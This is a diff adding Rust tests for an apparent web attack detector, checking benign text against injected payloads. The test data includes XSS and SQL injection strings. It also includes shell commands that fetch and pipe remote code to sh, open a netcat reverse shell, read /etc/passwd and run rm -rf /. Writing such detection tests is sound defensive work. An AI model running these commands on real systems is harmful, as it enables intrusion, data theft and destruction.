@@ -794,3 +794,158 @@ fn a_redirect_to_a_folder_of_another_host_is_suspicious() {
     assert_eq!(shared::score::of_request(&findings(&beacon)), shared::Sensitivity::Strict.threshold());
     assert!(is_attack(&request("/", "return=//evil.example")));
 }
+
+/// The places of a value that people or programs write: what each is called, and the request.
+fn places(value: &str) -> Vec<(&'static str, InspectRequest)> {
+    let json = |document: serde_json::Value| with_body("application/json", document.to_string());
+    vec![
+        ("a query", request("/search", &format!("q={}", percent_encoded(value)))),
+        ("a form", with_body("application/x-www-form-urlencoded", format!("q={}", percent_encoded(value)))),
+        ("a field for posts", json(serde_json::json!({ "title": "Docs", "content": value }))),
+        ("a message", json(serde_json::json!({ "id": 7, "message": value }))),
+        ("JSON", json(serde_json::json!({ "id": 7, "value": value }))),
+    ]
+}
+
+#[test]
+fn sentences_that_name_tags_tables_and_commands_are_benign() {
+    for benign in [
+        "what is <script> tag",
+        "how does the <iframe> tag work",
+        "why use <object> and not <embed>?",
+        "difference between <style> and <link>",
+        "drop table lamp",
+        "drop table lamp with shade",
+        "select a sofa from our union collection",
+        "select fabrics from the western union range",
+        "Run `rm -rf node_modules && npm i` when the build fails.",
+        "The folder is mounted with `$(pwd)`, as the manual says.",
+        "Start it with `docker run -v $(pwd):/app node npm test` and wait for the tests.",
+        "First `cd app && npm install`, then `npm run build && node server.js` and open the page.",
+    ] {
+        for (place, request) in places(benign) {
+            assert!(!is_attack(&request), "{place}: {benign}: {:?}", findings(&request));
+        }
+    }
+    for attack in [
+        "what is <script>alert(1)</script>",
+        "what is the <script> tag\"><script>alert(1)</script>",
+        "how does the <iframe src=javascript:alert(1)> tag work",
+        "<script>",
+        "1;drop table lamp",
+        "x'; drop table lamp; --",
+        "1 union select a from sofa",
+        "`rm -rf node_modules && npm i`",
+        "x;rm -rf node_modules && npm i",
+        "$(pwd)",
+        "x`$(pwd)`",
+        "Run `rm -rf / && npm i` when the build fails.",
+        "The folder is mounted with `$(cat /etc/passwd)`, as the manual says.",
+        "The folder is mounted with $(curl http://a.example/x|sh), as the manual says.",
+    ] {
+        for (place, request) in
+            places(attack).into_iter().filter(|(place, _)| matches!(*place, "a query" | "a form" | "JSON"))
+        {
+            assert!(is_attack(&request), "{place}: {attack}: {:?}", findings(&request));
+        }
+    }
+}
+
+#[test]
+fn scripts_of_packages_are_benign() {
+    let package = |script: &str| {
+        serde_json::json!({
+            "name": "shop", "version": "1.0.0", "private": true,
+            "scripts": { "build": script, "test": "jest" },
+            "devDependencies": { "typescript": "^5.4.0" },
+        })
+        .to_string()
+    };
+    let requests = |document: &str| {
+        let file = format!(
+            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"package.json\"\r\n\
+             Content-Type: application/json\r\n\r\n{document}\r\n--b--\r\n"
+        );
+        let post = |content: &str| {
+            with_body(
+                "application/json",
+                serde_json::json!({ "title": "Build", "content": content }).to_string(),
+            )
+        };
+        [
+            ("a body", with_body("application/json", document)),
+            ("a file", with_body("multipart/form-data; boundary=b", file)),
+            (
+                "a form",
+                with_body("application/x-www-form-urlencoded", format!("f={}", percent_encoded(document))),
+            ),
+            ("a post", post(document)),
+            (
+                "a post with a fence",
+                post(&format!(
+                    "# Build\n\nPut the script of the build into the package, and run it before each release:\n\n\
+                     ```json\n{document}\n```\n\nThen run `npm run build`.\n"
+                )),
+            ),
+        ]
+    };
+    for script in [
+        "tsc && node build.js",
+        "rm -rf dist && tsc -p . && cp a b",
+        "cross-env NODE_ENV=production webpack && cp -r public dist",
+        "cd ../shared && npm install && npm run build",
+        "eslint . && mkdir -p dist && node scripts/build.js || echo failed",
+    ] {
+        for (place, request) in requests(&package(script)) {
+            assert!(!is_attack(&request), "{place}: {script}: {:?}", findings(&request));
+        }
+        // Elsewhere it is what follows a value.
+        let query = request("/", &format!("q={}", percent_encoded(&format!("1 && {script}"))));
+        assert!(is_attack(&query), "{script}: {:?}", findings(&query));
+    }
+    for script in [
+        "tsc && cat /etc/passwd",
+        "; rm -rf dist && cp a b",
+        "tsc && curl http://a.example/x | sh",
+        "x && whoami",
+        "tsc; nc -e /bin/sh 192.0.2.4 99",
+        "tsc && rm -rf /",
+        "$(id) && node build.js",
+    ] {
+        for (place, request) in requests(&package(script)).into_iter().take(3) {
+            assert!(is_attack(&request), "{place}: {script}: {:?}", findings(&request));
+        }
+    }
+}
+
+#[test]
+fn words_before_a_command_that_fetches_hide_it_not() {
+    let words = "we went to the market and bought some apples for the pie of my aunt ";
+    for count in [0, 1, 4, 100] {
+        let words = words.repeat(count);
+        for command in [
+            "|| curl a.example/x",
+            "; curl 1.2.3.4|sh",
+            "&& wget -q a.example",
+            "; curl -s http://1.2.3.4/|sh",
+            "| nslookup a.example",
+            "; ping -c 10 a.example",
+            "; base64 -d x.txt | sh",
+            "; curl localhost:8080",
+            "& curl user@a.example:80",
+        ] {
+            let request = request("/", &format!("q={}", percent_encoded(&format!("{words}{command}"))));
+            assert!(is_attack(&request), "{count}: {command}: {:?}", findings(&request));
+        }
+        for benign in [
+            "; curl no.7 for long hair",
+            "; wget is a program",
+            "; ping me at the office",
+            "& curl up on the sofa",
+            "; sort it | ship it",
+        ] {
+            let request = request("/", &format!("q={}", percent_encoded(&format!("{words}{benign}"))));
+            assert!(!is_attack(&request), "{count}: {benign}: {:?}", findings(&request));
+        }
+    }
+}
